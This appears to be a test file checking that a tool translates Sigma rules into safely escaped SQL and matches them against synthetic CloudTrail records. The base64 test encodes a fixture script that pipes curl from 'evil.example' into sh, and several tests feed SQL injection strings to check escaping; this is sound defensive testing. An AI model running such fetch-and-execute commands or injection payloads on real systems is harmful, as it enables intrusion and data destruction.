/**
 * Each Sigma construct translated to SQL and run on a real in-memory store over records
 * shaped as CloudTrail writes them: which records match.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { CONTRACT_COLUMNS } from '../../src/detect/catalog.js';
import { evaluate } from '../../src/detect/runner.js';
import { toTrino } from '../../src/engines/dialect.js';
import { SigmaUnsupportedError } from '../../src/sigma/errors.js';
import { sigmaDetection } from '../../src/sigma/loader.js';
import { base64Offsets, ipv4Range, readPattern, windashVariants } from '../../src/sigma/translate.js';
import { Store } from '../../src/store/store.js';
import { makeCall, type RecordOverrides } from '../../synth/records.js';
import { ingest } from '../helpers/store.js';
import { Workspace, jsonLines } from '../helpers/workspace.js';

/** A full rule around a detection block. */
function rule(detection: string): unknown {
  const indented = detection.trim().split('\n').map((l) => `    ${l}`).join('\n');
  return parse(`title: construct
id: 11111111-2222-4333-8444-555555555555
logsource:
    product: aws
    service: cloudtrail
detection:
${indented}
level: medium
`);
}

const ws = new Workspace();
afterAll(() => ws.dispose());

/** The indices of the records the rule matches, run on DuckDB. */
async function matching(detection: string, records: readonly RecordOverrides[]): Promise<number[]> {
  const d = sigmaDetection(rule(detection), 'inline.yml', 'hash');
  // Every rule must also translate for Athena (the dialect layer refuses what it cannot carry).
  if (d.engines.includes('athena')) toTrino(d.sql);
  const store = await Store.open(':memory:');
  try {
    const built = records.map((r, i) => makeCall((r.eventName as string) ?? 'DoThing', (r.eventSource as string) ?? 'ec2.amazonaws.com', { ...r, eventID: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}` }));
    await ingest(store, [ws.write(`r-${Math.random().toString(36).slice(2)}.jsonl`, jsonLines(built))]);
    const findings = await evaluate(store, d);
    return findings.map((f) => Number(f.eventIds[0]!.slice(-12))).sort((a, b) => a - b);
  } finally {
    store.close();
  }
}

const names = (...list: string[]): RecordOverrides[] => list.map((eventName) => ({ eventName }));

describe('Sigma values', () => {
  it('compares strings case-insensitively by default', async () => {
    expect(await matching('selection:\n    eventName: deletetrail\ncondition: selection', names('DeleteTrail', 'DELETETRAIL', 'DeleteTrails'))).toEqual([0, 1]);
  });

  it('cased compares exactly', async () => {
    expect(await matching('selection:\n    eventName|cased: DeleteTrail\ncondition: selection', names('DeleteTrail', 'deletetrail'))).toEqual([0]);
  });

  it('* matches any run of characters, ? exactly one', async () => {
    expect(await matching("selection:\n    eventName: 'Delete*'\ncondition: selection", names('DeleteTrail', 'Delete', 'UndeleteX'))).toEqual([0, 1]);
    expect(await matching("selection:\n    eventName: 'Delet?Trail'\ncondition: selection", names('DeleteTrail', 'DeletTrail', 'DeleteeTrail'))).toEqual([0]);
  });

  it('\\* and \\? are literal, \\\\ is one backslash, and a lone backslash stays', async () => {
    const records: RecordOverrides[] = ['a*b', 'axb', 'a?b', 'a\\b', 'a\\xb'].map((v) => ({ userAgent: v }));
    expect(await matching("selection:\n    userAgent: 'a\\*b'\ncondition: selection", records)).toEqual([0]);
    expect(await matching("selection:\n    userAgent: 'a\\?b'\ncondition: selection", records)).toEqual([2]);
    expect(await matching("selection:\n    userAgent: 'a\\\\b'\ncondition: selection", records)).toEqual([3]);
    expect(await matching("selection:\n    userAgent: 'a\\x*'\ncondition: selection", records)).toEqual([4]);
  });

  it('% and _ in a value are literal, and a quote cannot change the query', async () => {
    const records: RecordOverrides[] = ['100%', '1000', 'a_b', 'axb', "x' or '1'='1"].map((v) => ({ userAgent: v }));
    expect(await matching("selection:\n    userAgent|contains: '0%'\ncondition: selection", records)).toEqual([0]);
    expect(await matching("selection:\n    userAgent|endswith: '_b'\ncondition: selection", records)).toEqual([2]);
    expect(await matching(`selection:\n    userAgent: "x' or '1'='1"\ncondition: selection`, records)).toEqual([4]);
    expect(await matching(`selection:\n    userAgent: "' or 1=1 --"\ncondition: selection`, records)).toEqual([]);
  });

  it('contains, startswith and endswith', async () => {
    const records: RecordOverrides[] = ['aws-cli/2.15 Python/3.11', 'Boto3/1.34', 'console.amazonaws.com'].map((v) => ({ userAgent: v }));
    expect(await matching('selection:\n    userAgent|contains: python\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    userAgent|startswith: BOTO3\ncondition: selection', records)).toEqual([1]);
    expect(await matching('selection:\n    userAgent|endswith: .amazonaws.com\ncondition: selection', records)).toEqual([2]);
    expect(await matching('selection:\n    userAgent|contains|cased: python\ncondition: selection', records)).toEqual([]);
  });

  it('a value list is OR; all makes it AND', async () => {
    const records: RecordOverrides[] = ['Boto3 Python', 'Boto3', 'Python'].map((v) => ({ userAgent: v }));
    expect(await matching('selection:\n    userAgent|contains:\n        - boto3\n        - python\ncondition: selection', records)).toEqual([0, 1, 2]);
    expect(await matching('selection:\n    userAgent|contains|all:\n        - boto3\n        - python\ncondition: selection', records)).toEqual([0]);
  });

  it('re is a case-sensitive search; i, m and s are its flags', async () => {
    const records: RecordOverrides[] = ['DeleteTrail', 'deletetrail', 'x\nDelete'].map((v) => ({ userAgent: v }));
    expect(await matching("selection:\n    userAgent|re: '^Delete'\ncondition: selection", records)).toEqual([0]);
    expect(await matching("selection:\n    userAgent|re|i: '^delete'\ncondition: selection", records)).toEqual([0, 1]);
    expect(await matching("selection:\n    userAgent|re|m: '^Delete'\ncondition: selection", records)).toEqual([0, 2]);
    expect(await matching("selection:\n    userAgent|re|s: 'x.Delete'\ncondition: selection", records)).toEqual([2]);
    expect(await matching("selection:\n    userAgent|re: 'Trail'\ncondition: selection", records)).toEqual([0]);
  });

  it('cidr matches IPv4 addresses in the block, not names or other addresses', async () => {
    const records: RecordOverrides[] = ['203.0.113.7', '203.0.114.1', 'AWS Internal', 'ec2.amazonaws.com', '2001:db8::1', '10.1.2.3'].map((v) => ({ sourceIPAddress: v }));
    expect(await matching('selection:\n    sourceIPAddress|cidr: 203.0.113.0/24\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    sourceIPAddress|cidr:\n        - 10.0.0.0/8\n        - 203.0.112.0/23\ncondition: selection', records)).toEqual([0, 5]);
    expect(ipv4Range('10.1.2.3/8')).toEqual([167772160, 184549375]);
    expect(() => ipv4Range('2001:db8::/32')).toThrow(SigmaUnsupportedError);
  });

  it('exists: true needs the field with a value, exists: false its absence', async () => {
    const records: RecordOverrides[] = [{ requestParameters: { userName: 'bob' } }, { requestParameters: { other: 1 } }, { requestParameters: null }, { requestParameters: { userName: null } }];
    expect(await matching('selection:\n    requestParameters.userName|exists: true\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    requestParameters.userName|exists: false\ncondition: selection', records)).toEqual([1, 2, 3]);
  });

  it('fieldref compares two fields of the same record', async () => {
    const records: RecordOverrides[] = [
      { requestParameters: { userName: 'alice' }, userIdentity: { type: 'IAMUser', userName: 'Alice' } },
      { requestParameters: { userName: 'bob' }, userIdentity: { type: 'IAMUser', userName: 'alice' } },
    ];
    expect(await matching('selection:\n    requestParameters.userName|fieldref: userIdentity.userName\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    requestParameters.userName|fieldref|cased: userIdentity.userName\ncondition: selection', records)).toEqual([]);
  });

  it('base64 and base64offset match the encoded value', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n').toString('base64');
    const records: RecordOverrides[] = [{ requestParameters: { userData: script } }, { requestParameters: { userData: Buffer.from('echo hello').toString('base64') } }];
    expect(await matching('selection:\n    requestParameters.userData|base64offset|contains: evil.example\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    requestParameters.userData|base64: echo hello\ncondition: selection', records)).toEqual([1]);
    expect(base64Offsets(Buffer.from('evil'))).toEqual(['ZXZpb', 'V2aW', 'ldmls']);
  });

  it('windash tries - and / and the Unicode dashes', async () => {
    const records: RecordOverrides[] = ['run /force', 'run -force', 'run \u2013force', 'run force'].map((v) => ({ userAgent: v }));
    expect(await matching("selection:\n    userAgent|windash|contains: ' -force'\ncondition: selection", records)).toEqual([0, 1, 2]);
    expect(windashVariants('-a')).toHaveLength(5);
  });

  it('null matches a missing field and a JSON null; an empty string only itself', async () => {
    const records: RecordOverrides[] = [{ errorCode: 'AccessDenied' }, {}, { requestParameters: { name: '' } }, { requestParameters: { name: null } }];
    expect(await matching('selection:\n    errorCode: null\ncondition: selection', records)).toEqual([1, 2, 3]);
    expect(await matching("selection:\n    requestParameters.name: ''\ncondition: selection", records)).toEqual([2]);
    expect(await matching('selection:\n    requestParameters.name: null\ncondition: selection', records)).toEqual([0, 1, 3]);
  });

  it('numbers match the number CloudTrail writes and its text', async () => {
    const records: RecordOverrides[] = [{ requestParameters: { maxCount: 5 } }, { requestParameters: { maxCount: '5' } }, { requestParameters: { maxCount: 50 } }];
    expect(await matching('selection:\n    requestParameters.maxCount: 5\ncondition: selection', records)).toEqual([0, 1]);
    expect(await matching('selection:\n    requestParameters.maxCount|gte: 6\ncondition: selection', records)).toEqual([2]);
    expect(await matching('selection:\n    requestParameters.maxCount|lt: 6\ncondition: selection', records)).toEqual([0, 1]);
  });

  it('booleans match a JSON true, the text "true" and the readOnly column', async () => {
    const records: RecordOverrides[] = [{ requestParameters: { enable: true } }, { requestParameters: { enable: 'true' } }, { requestParameters: { enable: false } }];
    expect(await matching('selection:\n    requestParameters.enable: true\ncondition: selection', records)).toEqual([0, 1]);
    expect(await matching('selection:\n    requestParameters.enable: false\ncondition: selection', records)).toEqual([2]);
    expect(await matching('selection:\n    readOnly: true\ncondition: selection', names('DescribeInstances', 'RunInstances'))).toEqual([0]);
  });

  it('reads nested fields, keys with dashes, and fields of the record outside the columns', async () => {
    const records: RecordOverrides[] = [
      { requestParameters: { 'x-amz-acl': 'public-read', bucketPolicy: { Statement: { Effect: 'Allow' } } } },
      { userIdentity: { type: 'AssumedRole', sessionContext: { sessionIssuer: { type: 'Role', userName: 'deployer' } } } },
      { additionalEventData: { MFAUsed: 'No' } },
    ];
    expect(await matching('selection:\n    requestParameters.x-amz-acl|startswith: public-\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    requestParameters.bucketPolicy.Statement.Effect: allow\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    userIdentity.sessionContext.sessionIssuer.type: role\ncondition: selection', records)).toEqual([1]);
    expect(await matching('selection:\n    userIdentity.sessionContext.sessionIssuer.userName: DEPLOYER\ncondition: selection', records)).toEqual([1]);
    expect(await matching('selection:\n    additionalEventData.MFAUsed: no\ncondition: selection', records)).toEqual([2]);
  });

  it('an object or array in the record is matched as its JSON text', async () => {
    const records: RecordOverrides[] = [{ requestParameters: { layers: ['arn:aws:lambda:us-east-1:123456789012:layer:evil:1', 'arn:x'] } }, { requestParameters: { layers: [] } }];
    expect(await matching('selection:\n    requestParameters.layers|contains: layer:evil\ncondition: selection', records)).toEqual([0]);
    expect(await matching('selection:\n    requestParameters|contains: layer:EVIL\ncondition: selection', records)).toEqual([0]);
    // Equality is against the whole JSON text, not one element.
    expect(await matching("selection:\n    requestParameters.layers: 'arn:x'\ncondition: selection", records)).toEqual([]);
  });

  it('a keyword selection searches the whole record; |all makes its list AND', async () => {
    const records: RecordOverrides[] = [{ userAgent: 'x evil.example y' }, { requestParameters: { note: 'EVIL.example and more' } }, { userAgent: 'benign' }];
    expect(await matching("keywords:\n    - 'evil.example'\ncondition: keywords", records)).toEqual([0, 1]);
    expect(await matching("keywords:\n    '|all':\n        - 'evil.example'\n        - 'more'\ncondition: keywords", records)).toEqual([1]);
  });

  it('a list of maps is OR of the maps, a map AND of its items', async () => {
    const records: RecordOverrides[] = [
      { eventName: 'StopLogging', eventSource: 'cloudtrail.amazonaws.com' },
      { eventName: 'StopLogging', eventSource: 'ec2.amazonaws.com' },
      { eventName: 'DeleteDetector', eventSource: 'guardduty.amazonaws.com' },
    ];
    const detection = `selection:
    - eventSource: cloudtrail.amazonaws.com
      eventName: StopLogging
    - eventSource: guardduty.amazonaws.com
condition: selection`;
    expect(await matching(detection, records)).toEqual([0, 2]);
  });
});

describe('Sigma conditions', () => {
  const records: RecordOverrides[] = [
    { eventName: 'StopLogging', userAgent: 'aws-cli' },
    { eventName: 'StopLogging', userAgent: 'console' },
    { eventName: 'DeleteTrail', userAgent: 'aws-cli' },
    { eventName: 'RunInstances', userAgent: 'terraform' },
  ];
  const searches = `selection_stop:
    eventName: StopLogging
selection_delete:
    eventName: DeleteTrail
filter_cli:
    userAgent: aws-cli
_helper:
    userAgent: terraform`;
  const run = (condition: string) => matching(`${searches}\ncondition: ${condition}`, records);

  it('1 of a pattern, all of a pattern', async () => {
    expect(await run('1 of selection_*')).toEqual([0, 1, 2]);
    expect(await run('all of selection_*')).toEqual([]);
    expect(await run('all of selection_s*')).toEqual([0, 1]);
  });

  it('1 of them / all of them leave out identifiers starting with _', async () => {
    expect(await run('1 of them')).toEqual([0, 1, 2]);
    expect(await run('all of them')).toEqual([]);
    expect(await run('_helper')).toEqual([3]);
  });

  it('not, and, or, parentheses', async () => {
    expect(await run('selection_stop and not filter_cli')).toEqual([1]);
    expect(await run('not (selection_stop or selection_delete)')).toEqual([3]);
    expect(await run('(selection_stop or selection_delete) and filter_cli')).toEqual([0, 2]);
    expect(await run('selection_stop or selection_delete and filter_cli')).toEqual([0, 1, 2]);
  });

  it('not of a missing field matches', async () => {
    expect(await matching('selection:\n    requestParameters.nothing: x\ncondition: not selection', names('A', 'B'))).toEqual([0, 1]);
  });

  it('a list of conditions is OR', async () => {
    expect(await matching(`${searches}\ncondition:\n    - selection_delete\n    - _helper`, records)).toEqual([2, 3]);
  });
});

describe('Sigma rule SQL', () => {
  it('returns the contract columns and runs on Athena unless it reads the stored record', () => {
    const d = sigmaDetection(rule('selection:\n    eventName: StopLogging\ncondition: selection'), 'inline.yml', 'hash');
    expect(d.sql).toMatch(new RegExp(CONTRACT_COLUMNS.slice(0, 3).join(',\\s+')));
    expect(d.engines).toEqual(['duckdb', 'athena']);
    const local = sigmaDetection(rule("keywords:\n    - evil\ncondition: keywords"), 'inline.yml', 'hash');
    expect(local.engines).toEqual(['duckdb']);
    expect(local.engineNote).toMatch(/whole stored record/);
  });

  it('carries rule values only inside escaped literals', () => {
    const d = sigmaDetection(rule(`selection:\n    userAgent|contains: "'; drop table events; --"\ncondition: selection`), 'inline.yml', 'hash');
    expect(d.sql).toContain("'%''; drop table events; --%'");
  });

  it('reads escapes into literal text and wildcards', () => {
    expect(readPattern('a\\*b*c?\\\\d\\e')).toEqual(['a*b', { wild: '*' }, 'c', { wild: '?' }, '\\d\\e']);
  });

  it.each([
    ['selection:\n    eventName|expand: "%x%"\ncondition: selection', 'expand'],
    ['selection:\n    eventName|nope: x\ncondition: selection', 'modifier "nope"'],
    ['selection:\n    eventName|contains|all: x\ncondition: selection', 'all needs a list'],
    ['selection:\n    eventName|contains|startswith: x\ncondition: selection', 'exclude each other'],
    ['selection:\n    eventName|i: x\ncondition: selection', 'apply to re only'],
    ['selection:\n    sourceIPAddress|cidr: 2001:db8::/32\ncondition: selection', 'IPv6'],
    ['selection:\n    eventName: [[x]]\ncondition: selection', 'a value must be'],
    ['selection:\n    eventName: x\ntimeframe: 5m\ncondition: selection', 'timeframe'],
    ["selection:\n    eventName|re: '^(?!Get)'\ncondition: selection", 'lookaround'],
    ["selection:\n    eventName|re: '(a'\ncondition: selection", 'is not valid'],
    ['selection:\n    eventName: "a\\0b"\ncondition: selection', 'NUL'],
    ['selection:\n    "event$Name": x\ncondition: selection', 'plain keys'],
  ])('refuses what it cannot translate, with the reason (%#)', (detection, reason) => {
    expect(() => sigmaDetection(rule(detection), 'inline.yml', 'hash')).toThrow(reason);
  });
});

describe('Sigma detections in the runner', () => {
  let store: Store;
  beforeAll(async () => {
    store = await Store.open(':memory:');
  });
  afterAll(() => store.close());

  it('returns nothing on an empty store, and failed calls as attempts', async () => {
    const d = sigmaDetection(rule('selection:\n    eventName: StopLogging\ncondition: selection'), 'inline.yml', 'hash');
    expect(await evaluate(store, d)).toEqual([]);
    const other = await Store.open(':memory:');
    try {
      const records = [makeCall('StopLogging', 'cloudtrail.amazonaws.com', { errorCode: 'AccessDenied' })];
      await ingest(other, [ws.write('attempt.jsonl', jsonLines(records))]);
      const [finding] = await evaluate(other, d);
      expect(finding).toMatchObject({ detection: 'sigma:11111111-2222-4333-8444-555555555555', outcome: 'attempt', severity: 'medium', title: 'construct (attempt)' });
    } finally {
      other.close();
    }
  });
});

describe('the event names a rule is limited to', () => {
  const namesOf = (detection: string) => sigmaDetection(rule(detection), 'inline.yml', 'hash').eventNames;

  it('are those of an eventName selection, in lower case, through and, or and condition lists', () => {
    expect(namesOf('sel:\n  eventSource: iam.amazonaws.com\n  eventName:\n    - CreateUser\n    - DeleteUser\ncondition: sel')).toEqual(['createuser', 'deleteuser']);
    expect(namesOf('a:\n  eventName: StopLogging\nb:\n  eventName: DeleteTrail\ncondition: a or b')).toEqual(['deletetrail', 'stoplogging']);
    expect(namesOf('a:\n  eventName: StopLogging\nb:\n  userIdentity.type: Root\ncondition: a and b')).toEqual(['stoplogging']);
    expect(namesOf('a:\n  eventName: StopLogging\nb:\n  eventName: DeleteTrail\ncondition:\n  - a\n  - b')).toEqual(['deletetrail', 'stoplogging']);
    expect(namesOf('a:\n  eventName: StopLogging\nf:\n  userIdentity.type: Root\ncondition: a and not f')).toEqual(['stoplogging']);
  });

  it('are none when any event could match: a branch without a name, not, wildcards, modifiers, keywords', () => {
    expect(namesOf('a:\n  eventName: StopLogging\nb:\n  userIdentity.type: Root\ncondition: a or b')).toBeUndefined();
    expect(namesOf('a:\n  eventName: StopLogging\ncondition: not a')).toBeUndefined();
    expect(namesOf('a:\n  eventName: Delete*\ncondition: a')).toBeUndefined();
    expect(namesOf('a:\n  eventName|startswith: Delete\ncondition: a')).toBeUndefined();
    expect(namesOf('keywords:\n  - StopLogging\ncondition: keywords')).toBeUndefined();
  });

  it('still find a record whose name is written in another case, through the pre-filtered copy', async () => {
    const { runDetections } = await import('../../src/detect/runner.js');
    const d = sigmaDetection(rule('sel:\n  eventName: stoplogging\ncondition: sel'), 'inline.yml', 'hash');
    const store = await Store.open(':memory:');
    try {
      await ingest(store, [ws.write('case.jsonl', jsonLines([makeCall('StopLogging', 'cloudtrail.amazonaws.com'), makeCall('DescribeInstances', 'ec2.amazonaws.com')]))]);
      const result = await runDetections(store, [d]);
      expect(result.findings.map((f) => f.eventName)).toEqual(['StopLogging']);
    } finally {
      store.close();
    }
  });
});
